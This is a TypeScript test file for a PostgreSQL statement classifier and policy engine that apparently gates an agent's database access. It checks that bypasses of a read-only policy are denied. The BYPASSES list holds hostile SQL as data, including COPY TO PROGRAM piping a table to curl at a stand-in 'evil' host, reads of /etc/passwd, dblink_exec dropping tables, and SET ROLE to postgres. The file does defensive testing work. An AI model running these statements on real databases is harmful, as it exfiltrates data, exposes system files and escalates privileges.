// Statement effects (issue 3, points 3-5): every bypass of a read-only policy is non-read,
// harmless settings are read, functions count by what they do, the cache shares entries
// across literals without mixing up texts, and UPDATE/DELETE without WHERE are flagged.
import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import type { SqlEffect, SqlStatement } from '../../src/core/action.ts';
import { decide } from '../../src/policy/decide.ts';
import { analyzePostgres, clearSqlAnalysisCache, loadSqlAnalyzer, resolveExecute } from '../../src/sql/postgres/analyze.ts';
import { createFunctionCatalog } from '../../src/sql/postgres/function-catalog.ts';
import { normaliseSql } from '../../src/sql/postgres/normalize.ts';
import { parseSearchPath } from '../../src/sql/postgres/settings.ts';
import { actionFor, identity, policiesFrom } from './support.ts';

before(() => loadSqlAnalyzer());

function only(sql: string, opts?: Parameters<typeof analyzePostgres>[1]): SqlStatement {
  const [st, ...rest] = analyzePostgres(sql, opts).statements;
  assert.ok(st !== undefined && rest.length === 0, `one statement for ${sql}`);
  return st;
}

/** Issue 3, point 3: each of these must not be `read`. */
const BYPASSES: ReadonlyArray<readonly [string, SqlEffect]> = [
  ["select pg_read_file('/etc/passwd')", 'admin'],
  ["select pg_catalog.pg_read_binary_file('/etc/passwd')", 'admin'],
  ["select * from pg_ls_dir('/')", 'admin'],
  ["select pg_stat_file('/etc/passwd')", 'admin'],
  ["select lo_import('/etc/passwd')", 'admin'],
  ["select lo_export(1234, '/tmp/x')", 'admin'],
  ["select lo_get(1234)", 'admin'],
  ['select pg_terminate_backend(42)', 'admin'],
  ['select pg_cancel_backend(42)', 'admin'],
  ['select pg_reload_conf()', 'admin'],
  ["select set_config('role', 'postgres', false)", 'unknown'],
  ["select * from dblink('host=x', 'select 1') as t(a int)", 'unknown'],
  ["select dblink_exec('host=x', 'drop table t')", 'unknown'],
  ["select public.dblink_exec('host=x', 'drop table t')", 'unknown'],
  ["select query_to_xml('delete from t returning *', true, false, '')", 'unknown'],
  ["select cursor_to_xml('c', 1, true, false, '')", 'unknown'],
  ["select table_to_xml('secrets.keys', true, false, '')", 'unknown'],
  ["select nextval('s')", 'write'],
  ["select setval('s', 1)", 'write'],
  ['select pg_advisory_lock(1)', 'write'],
  ["select pg_notify('c', 'x')", 'write'],
  ['select txid_current()', 'write'],
  ['select * from accounts for update', 'write'],
  ['select * from accounts for share skip locked', 'write'],
  ['with d as (delete from t returning *) select * from d', 'write'],
  ['select * into backup from accounts', 'ddl'],
  ['create table backup as select * from accounts', 'ddl'],
  ["copy accounts to program 'curl -d @- http://evil'", 'admin'],
  ["copy accounts from program 'cat /etc/passwd'", 'admin'],
  ["copy accounts to '/tmp/a.csv'", 'admin'],
  ["do $$ begin execute 'drop table t'; end $$", 'unknown'],
  ['call billing.close_month()', 'unknown'],
  ['execute q(1)', 'unknown'],
  ['explain analyze execute q(1)', 'unknown'],
  ['set role postgres', 'privilege'],
  ["set role = 'postgres'", 'privilege'],
  ['reset role', 'privilege'],
  ['set session authorization postgres', 'privilege'],
  ['reset session authorization', 'privilege'],
  ['set row_security = off', 'privilege'],
  ['discard all', 'privilege'],
  ['alter default privileges grant select on tables to public', 'privilege'],
  ['alter table t disable row level security', 'privilege'],
  ['drop policy p on t', 'privilege'],
  ['set session_replication_role = replica', 'admin'],
  ["alter system set log_statement = 'none'", 'admin'],
  ["load 'evil'", 'admin'],
  ['create extension dblink', 'admin'],
  ['vacuum accounts', 'admin'],
  ['checkpoint', 'admin'],
  ["notify events, 'x'", 'write'],
  ['lock table accounts', 'write'],
  ["set app.tenant_id = '42'", 'unknown'],
  ['set standard_conforming_strings = off', 'unknown'],
  ["set client_encoding = 'SJIS'", 'unknown'],
  ['select my_function()', 'unknown'],
  ['select app.my_function()', 'unknown'],
  ['select 1 +', 'unknown'],
];

void describe('effects: every bypass is non-read and denied by the read-only building block', () => {
  const readOnly = policiesFrom(`
  - name: read-only
    subjects: { users: ["*"] }
    connections: ["*"]
    rules:
      - match: { sql: { effect: [read] } }
        then: allow
`);
  for (const [sql, effect] of BYPASSES) {
    void it(`${sql} -> ${effect}`, async () => {
      assert.equal(only(sql).effect, effect);
      const d = decide(readOnly, identity('agent'), { name: 'prod-db', type: 'postgres' }, await actionFor('prod-db', sql));
      assert.equal(d.verdict, 'deny', d.reason);
    });
  }
});

const HARMLESS = [
  'begin', 'begin isolation level serializable read only', 'commit', 'rollback', 'savepoint a', 'release a', 'rollback to a',
  'set transaction isolation level repeatable read', 'set session characteristics as transaction read only',
  'set search_path = app, public', "set schema 'app'", "set time zone 'UTC'", "set timezone = 'Europe/Paris'",
  "set application_name = 'agent'", "set statement_timeout = '5s'", 'set local lock_timeout = 1000',
  'set idle_in_transaction_session_timeout = 0', "set datestyle = 'ISO, MDY'", 'set intervalstyle = postgres',
  'set extra_float_digits = 3', "set client_encoding = 'UTF8'", "set names 'utf8'", 'set client_min_messages = warning',
  'set bytea_output = hex', "set default_transaction_isolation = 'serializable'", "set work_mem = '64MB'",
  'set enable_seqscan = off', 'set jit = off', 'set row_security = on', 'reset statement_timeout', 'reset all',
  'set statement_timeout to default', 'show search_path', 'show all', 'discard plans', 'discard temp', 'listen c', 'unlisten *',
  'deallocate all', 'close all', 'fetch 10 from c', 'set constraints all deferred',
  "select count(*), sum(x), coalesce(a, b), now(), lower(name), to_char(now(), 'YYYY'), jsonb_build_object('a', 1) from t",
  'select * from generate_series(1, 10) g, random() r, clock_timestamp() c, gen_random_uuid() u',
  "select current_setting('search_path'), pg_sleep(0), pg_catalog.upper('a'), currval('s')",
  'explain select nextval(\'s\')',
];

void describe('effects: transaction control and harmless settings are read', () => {
  for (const sql of HARMLESS) {
    void it(sql, () => {
      const st = only(sql);
      assert.equal(st.effect, 'read', `${sql}: ${st.command} ${st.effect}`);
    });
  }

  void it('SET records the setting name and value; RESET and DEFAULT have no value', () => {
    assert.deepEqual(only('set search_path to app, "My Schema", public').setting, { name: 'search_path', value: 'app, "My Schema", public' });
    assert.deepEqual(only("SET TIME ZONE 'UTC'").setting, { name: 'timezone', value: 'UTC' });
    assert.deepEqual(only('set statement_timeout = 5000').setting, { name: 'statement_timeout', value: '5000' });
    assert.deepEqual(only('reset search_path').setting, { name: 'search_path', value: null });
    assert.deepEqual(only('set search_path to default').setting, { name: 'search_path', value: null });
    assert.equal(only('set role postgres').command, 'set_role');
    assert.deepEqual(parseSearchPath('app, "My Schema", public, "$user"'), ['app', 'My Schema', 'public', '$user']);
    // Values are literals: a SET is cached by its exact text, never shared with another value.
    assert.deepEqual(only('set search_path = other').setting, { name: 'search_path', value: 'other' });
    assert.equal(only('set row_security = off').effect, 'privilege');
    assert.equal(only('set row_security = on').effect, 'read');
  });
});

void describe('effects: functions', () => {
  const rows = [
    { schema: 'app', name: 'pure', volatility: 'i' },
    { schema: 'app', name: 'lookup', volatility: 's' },
    { schema: 'app', name: 'bump', volatility: 'v' },
    { schema: 'app', name: 'search_orders', volatility: 'v' },
    { schema: 'app', name: 'twice', volatility: 's' },
    { schema: 'app', name: 'twice', volatility: 'v' },
    { schema: 'public', name: 'lower', volatility: 'v' },
  ] as const;
  const catalog = createFunctionCatalog(rows, { readFunctions: ['app.search_*'] });
  const opts = { searchPath: ['app', 'public'], catalog };

  void it('user functions count by volatility: immutable and stable read, volatile unknown', () => {
    assert.equal(only('select app.pure(1), app.lookup(2)', opts).effect, 'read');
    assert.equal(only('select pure(1), lookup(2)', opts).effect, 'read');
    assert.equal(only('select app.bump()', opts).effect, 'unknown');
    assert.equal(only('select bump()', opts).effect, 'unknown');
    assert.equal(only('insert into t values (app.lookup(1))', opts).effect, 'write');
  });

  void it('the most volatile overload counts; volatile allow-listed functions are read', () => {
    assert.equal(catalog.volatility('app.twice'), 'volatile');
    assert.equal(only('select twice(1)', opts).effect, 'unknown');
    assert.equal(only('select app.search_orders($1)', opts).effect, 'read');
    assert.equal(only('select search_orders($1)', opts).effect, 'read');
  });

  void it('unqualified names resolve through the search path', () => {
    assert.equal(only('select pure(1)', { searchPath: ['public'], catalog }).effect, 'unknown');
    assert.equal(only('select pure(1)', { searchPath: ['public', 'app'], catalog }).effect, 'read');
    // A user function shadowing a built-in on the path counts too (the worst match wins).
    assert.equal(only("select lower('a')", opts).effect, 'unknown');
    assert.equal(only("select pg_catalog.lower('a')", opts).effect, 'read');
    assert.equal(only("select lower('a')", { searchPath: ['app'], catalog }).effect, 'read');
  });

  void it('without a catalog user functions are unknown; the table is not allow-listable', () => {
    assert.equal(only('select app.pure(1)').effect, 'unknown');
    const lax = createFunctionCatalog([], { readFunctions: ['*', '*.*'] });
    assert.equal(only("select nextval('s')", { catalog: lax }).effect, 'write');
    assert.equal(only("select dblink_exec('x')", { catalog: lax }).effect, 'unknown');
    assert.equal(only('select anything()', { catalog: lax }).effect, 'read');
  });

  void it('built-ins newer than the shipped list are classified by a catalog that has pg_catalog rows', () => {
    const live = createFunctionCatalog([{ schema: 'pg_catalog', name: 'pg_future_fn', volatility: 's' }]);
    assert.equal(only('select pg_future_fn()').effect, 'unknown');
    assert.equal(only('select pg_future_fn()', { catalog: live }).effect, 'read');
  });

  void it('the effect follows the catalog after a cache hit', () => {
    const text = 'select app.bump()';
    assert.equal(only(text, opts).effect, 'unknown');
    const allowed = createFunctionCatalog(rows, { readFunctions: ['bump'] });
    assert.equal(only(text, { ...opts, catalog: allowed }).effect, 'read');
    assert.equal(only(text, opts).effect, 'unknown');
  });

  void it('a deny rule on functions still catches an unknown statement', async () => {
    const p = policiesFrom(`
  - name: p
    subjects: { users: ["*"] }
    connections: ["*"]
    rules:
      - match: { sql: { functions: ["dblink*"] } }
        then: deny
        reason: no dblink
      - match: { sql: { effect: [unknown] } }
        then: review
`);
    const d = decide(p, identity('x'), { name: 'prod-db', type: 'postgres' }, await actionFor('prod-db', "select dblink_exec('x', 'y')"));
    assert.equal(d.reason, 'no dblink');
    const r = decide(p, identity('x'), { name: 'prod-db', type: 'postgres' }, await actionFor('prod-db', 'select other_fn()'));
    assert.equal(r.verdict, 'review');
  });
});

void describe('effects: PREPARE and EXECUTE', () => {
  void it('PREPARE records its name; EXECUTE resolves through the session', () => {
    const prepared = only('prepare del(int) as delete from accounts where id = $1');
    assert.deepEqual(prepared.prepared, { name: 'del' });
    assert.equal(prepared.effect, 'write');
    const exec = only('execute del(1)');
    assert.equal(exec.executes, 'del');
    const byName = (name: string): SqlStatement | undefined => (name === 'del' ? prepared : undefined);
    const resolved = resolveExecute(exec, byName);
    assert.equal(resolved.effect, 'write');
    assert.equal(resolved.error, undefined);
    assert.deepEqual(resolved.relations.map((r) => `${r.name}:${r.access}`), ['public.accounts:write']);
    assert.equal(resolveExecute(only('execute other(1)'), byName).effect, 'unknown');
    assert.equal(resolveExecute(only('create table x as execute del(1)'), byName).effect, 'ddl');
    assert.equal(resolveExecute(only('explain analyze execute del(1)'), byName).effect, 'write');
    assert.equal(resolveExecute(only('select 1'), byName).effect, 'read');
  });
});

void describe('effects: unbounded UPDATE and DELETE', () => {
  const cases: ReadonlyArray<readonly [string, boolean]> = [
    ['delete from t', true],
    ['update t set x = 1', true],
    ['delete from t where true', true],
    ['update t set x = 1 where 1 = 1', true],
    ["delete from t where 'a' = 'a' or $1", true],
    ['delete from t where id = 1', false],
    ['update t set x = 1 where id in (select id from u)', false],
    ['delete from t where current of c', false],
    ['delete from t using u where t.id = u.id', false],
    ['select * from t', false],
  ];
  for (const [sql, unbounded] of cases) {
    void it(`${sql}: ${unbounded}`, () => assert.equal(only(sql).unbounded === true, unbounded));
  }

  void it('match.sql.unbounded selects them', async () => {
    const p = policiesFrom(`
  - name: p
    subjects: { users: ["*"] }
    connections: ["*"]
    rules:
      - match: { sql: { command: [update, delete], unbounded: true } }
        then: deny
      - match: { sql: { unbounded: false } }
        then: allow
`);
    const verdict = async (sql: string): Promise<string> => decide(p, identity('x'), { name: 'prod-db', type: 'postgres' }, await actionFor('prod-db', sql)).verdict;
    assert.equal(await verdict('delete from t'), 'deny');
    assert.equal(await verdict('delete from t where id = 1'), 'allow');
    assert.equal(await verdict('select 1'), 'allow');
  });
});

void describe('effects: the cache normalises literals', () => {
  void it('two literals share an entry, and each call keeps its own text', () => {
    clearSqlAnalysisCache();
    const a = analyzePostgres('select abalance from pgbench_accounts where aid = 1');
    const b = analyzePostgres('select abalance from pgbench_accounts where aid = 123456');
    assert.equal(a.statements[0]?.text, 'select abalance from pgbench_accounts where aid = 1');
    assert.equal(b.statements[0]?.text, 'select abalance from pgbench_accounts where aid = 123456');
    assert.equal(a.statements[0]?.relations, b.statements[0]?.relations, 'shared entry: the same frozen relations');
    assert.equal(analyzePostgres('select abalance from pgbench_accounts where aid = 123456'), b);
  });

  void it('keys: strings, numbers, dollar quotes, E-strings, comments and identifiers', () => {
    const key = (sql: string): string | undefined => normaliseSql(sql)?.key;
    assert.equal(key("select 'a', 1"), key("select 'bcd', 22.5e3"));
    assert.notEqual(key("select 'a'"), key('select 1'));
    assert.equal(key('select $$x$$'), key("select $tag$ it's -- $$ $tag$"));
    assert.equal(key("select E'it\\'s'"), key("select E'x'"));
    assert.equal(key('select "a1" from t2 -- 3 \'x\'\n'), 'select "a1" from t2 -- 3 \'x\'\n');
    assert.equal(key('select /* 1 /* nested */ 2 */ 3'), 'select /* 1 /* nested */ 2 */ \u0002');
    assert.equal(key('select $1, a$b'), 'select $1, a$b');
    assert.equal(key("select 'unterminated"), undefined);
    assert.equal(key('select 123abc'), undefined);
    assert.equal(key('select /* open'), undefined);
  });

  void it('a string holding -- or $$ or ; does not break statements or texts', () => {
    const sql = "select '-- not a comment; $$' as a; update t set x = $q$ ; -- $q$ where id = 2; select 3 /* ; */";
    const got = analyzePostgres(sql).statements.map((s) => [s.command, s.text]);
    assert.deepEqual(got, [
      ['select', "select '-- not a comment; $$' as a"],
      ['update', 'update t set x = $q$ ; -- $q$ where id = 2'],
      ['select', 'select 3 /* ; */'],
    ]);
    const other = analyzePostgres("select 'é; other' as a; update t set x = $q$ z $q$ where id = 77; select 4 /* ; */");
    assert.deepEqual(other.statements.map((s) => s.text), ["select 'é; other' as a", 'update t set x = $q$ z $q$ where id = 77', 'select 4 /* ; */']);
  });

  void it('texts whose analysis depends on literals are not shared', () => {
    assert.equal(only('explain (analyze 0) delete from t').effect, 'read');
    assert.equal(only('explain (analyze 1) delete from t').effect, 'write');
    assert.equal(only("set client_encoding = 'UTF8'").effect, 'read');
    assert.equal(only("set client_encoding = 'BIG5'").effect, 'unknown');
    // A parse error carries its position: only its own text gets it.
    assert.match(only("select 'a' frm t").error ?? '', /at character 16$/);
    assert.match(only("select 'abcdef' frm t").error ?? '', /at character 21$/);
  });
});
